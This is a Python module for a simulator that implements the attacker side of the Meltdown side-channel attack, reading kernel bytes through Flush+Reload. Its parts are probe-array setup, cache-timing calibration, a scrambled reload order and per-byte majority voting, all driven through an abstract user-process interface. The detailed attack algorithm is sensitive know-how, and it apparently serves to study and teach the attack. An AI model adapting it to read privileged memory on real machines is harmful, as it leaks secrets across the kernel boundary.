"""The Meltdown attacker: a user program that reads kernel bytes by Flush+Reload, and nothing else.

This module is the attacker's side only. It imports nothing from the paging model or physical
memory (a test checks its imports and the attributes it touches): everything it learns comes
through `UserPort`, which offers what an unprivileged process on a real machine has:

- `mmap(length)`: memory of its own (the probe array);
- `clflush(va)` and `timed_load(va)` on its own lines (CLFLUSH, `rdtscp; load; rdtscp`);
- `meltdown_gadget(target, probe, stride)`: run the classic sequence
  ``x = *(u8 *)target; (void)probe[x * stride];`` and get back what a SIGSEGV handler sees
  (the faulting address and Linux's sanitised error code), never the loaded value.

Per byte (Lipp et al., "Meltdown", USENIX Security 2018, §5 and their PoC `libkdump`): flush the
256 probe lines, run the gadget, reload the 256 lines in a scrambled order timing each, take the
fastest line under the calibrated threshold as this round's vote; repeat and majority-vote.

Stride 4096: each probe line is on its own page, so the L2 spatial prefetcher (pairs of lines)
and the stream prefetchers (which stay inside a 4 KiB page) never bring in a neighbouring index;
the scrambled reload order (`(i * 167 + 13) & 255`, the PoC's) defeats stride detection as well.

Zero: the gadget touches `probe[0]` both when the secret byte is 0 and when the faulting load lost
its race with the exception and forwarded zero (Meltdown §5.2 observes this bias towards 0).
So index 0 never wins a round; it is counted on the side, and a byte is reported as 0 only when
no non-zero index gathered votes and index 0 was hot in most rounds. When nothing is forwarded
at all (non-present page, fixed core) index 0 stays cold and the byte is reported unknown
(`None`), never as a recovered zero.
"""

from __future__ import annotations

import statistics
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Protocol

PROBE_ENTRIES = 256  # one line per byte value


@dataclass(frozen=True)
class Sigsegv:
    """What the attacker's SIGSEGV handler sees: `si_addr` and the error code in the signal
    frame (`uc_mcontext.gregs[REG_ERR]`), which Linux sanitises for kernel addresses."""

    addr: int
    error_code: int


class UserPort(Protocol):
    """The only interface the attacker gets: a user process's view of its core."""

    def mmap(self, length: int) -> int: ...

    def clflush(self, va: int) -> None: ...

    def timed_load(self, va: int) -> int: ...

    def meltdown_gadget(self, target: int, probe: int, stride: int) -> Sigsegv | None: ...


@dataclass(frozen=True)
class MeltdownParams:
    """Knobs of the attack program."""

    stride: int = 4096
    max_rounds: int = 12  # rounds per byte before giving up
    min_votes: int = 3  # votes a value needs to be claimed
    lead: int = 2  # ... and its lead over the runner-up, to stop early
    calibration_samples: int = 200
    keep_timings: bool = False  # keep every round's 256 timings (for the walk-through)

    def __post_init__(self) -> None:
        if self.stride < 64 or self.stride % 64:
            raise ValueError(f"stride {self.stride} must be a positive multiple of the 64-byte line")
        if not 1 <= self.min_votes <= self.max_rounds:
            raise ValueError(f"min_votes {self.min_votes} must be 1..max_rounds ({self.max_rounds})")


@dataclass(frozen=True)
class Calibration:
    """Timings of the attacker's own cached and flushed line, and the threshold between them."""

    hit_median: float
    miss_median: float
    threshold: int


@dataclass
class ByteReading:
    """The evidence for one byte: votes per non-zero index, rounds where index 0 was hot."""

    address: int
    value: int | None = None
    rounds: int = 0
    votes: Counter[int] = field(default_factory=Counter)
    zero_rounds: int = 0
    empty_rounds: int = 0  # rounds with no line under the threshold
    segv: int = 0  # rounds whose load faulted architecturally
    timings: list[list[int]] = field(default_factory=list)  # per round, cycles by index

    def as_dict(self) -> dict[str, object]:
        return {
            "address": hex(self.address),
            "value": self.value,
            "rounds": self.rounds,
            "votes": {str(k): v for k, v in self.votes.most_common(4)},
            "zero_rounds": self.zero_rounds,
            "empty_rounds": self.empty_rounds,
        }


def reload_order(entries: int = PROBE_ENTRIES) -> list[int]:
    """The PoC's scrambled visiting order, a permutation of 0..255."""
    return [(i * 167 + 13) & (entries - 1) for i in range(entries)]


class MeltdownAttacker:
    """Flush+Reload Meltdown, driven only through a `UserPort`."""

    def __init__(self, port: UserPort, params: MeltdownParams | None = None) -> None:
        self.port = port
        self.params = params or MeltdownParams()
        self.probe = port.mmap(PROBE_ENTRIES * self.params.stride)
        self.scratch = port.mmap(4096)
        self.order = reload_order()
        self.calibration = self.calibrate()

    def calibrate(self) -> Calibration:
        """Time the attacker's own line cached and flushed; the threshold is halfway between
        the medians (the usual Flush+Reload calibration)."""
        port, line = self.port, self.scratch
        hits, misses = [], []
        port.timed_load(line)
        for _ in range(self.params.calibration_samples):
            hits.append(port.timed_load(line))
            port.clflush(line)
            misses.append(port.timed_load(line))
            port.timed_load(line)
        hit, miss = statistics.median(hits), statistics.median(misses)
        return Calibration(hit, miss, round((hit + miss) / 2))

    def round(self, target: int, reading: ByteReading) -> None:
        """One flush, gadget, reload round; adds its vote to `reading`."""
        port, stride, probe = self.port, self.params.stride, self.probe
        for i in range(PROBE_ENTRIES):
            port.clflush(probe + i * stride)
        if port.meltdown_gadget(target, probe, stride) is not None:
            reading.segv += 1
        times = [0] * PROBE_ENTRIES
        for i in self.order:
            times[i] = port.timed_load(probe + i * stride)
        threshold = self.calibration.threshold
        reading.rounds += 1
        if times[0] < threshold:
            reading.zero_rounds += 1
        fast = [(t, i) for i, t in enumerate(times) if i and t < threshold]
        if fast:
            reading.votes[min(fast)[1]] += 1
        elif times[0] >= threshold:
            reading.empty_rounds += 1
        if self.params.keep_timings:
            reading.timings.append(times)

    def _decided(self, reading: ByteReading) -> bool:
        top = reading.votes.most_common(2)
        if not top:
            return False
        first = top[0][1]
        second = top[1][1] if len(top) > 1 else 0
        return first >= self.params.min_votes and first - second >= self.params.lead

    def read_byte(self, target: int) -> ByteReading:
        """Rounds until one non-zero value clearly leads, or `max_rounds`; then decide."""
        reading = ByteReading(target)
        while reading.rounds < self.params.max_rounds and not self._decided(reading):
            self.round(target, reading)
        top = reading.votes.most_common(2)
        need = self.params.min_votes
        if top and top[0][1] >= need and (len(top) == 1 or top[0][1] > top[1][1]):
            reading.value = top[0][0]
        elif (not top or top[0][1] < need) and reading.zero_rounds >= max(need, reading.rounds // 2 + 1):
            reading.value = 0  # index 0 hot in most rounds, no other index with real support: a 0
        return reading

    def read(self, target: int, length: int, progress: Callable[[int], None] | None = None) -> list[ByteReading]:
        """Read `length` bytes starting at `target`."""
        out = []
        for offset in range(length):
            out.append(self.read_byte(target + offset))
            if progress:
                progress(1)
        return out
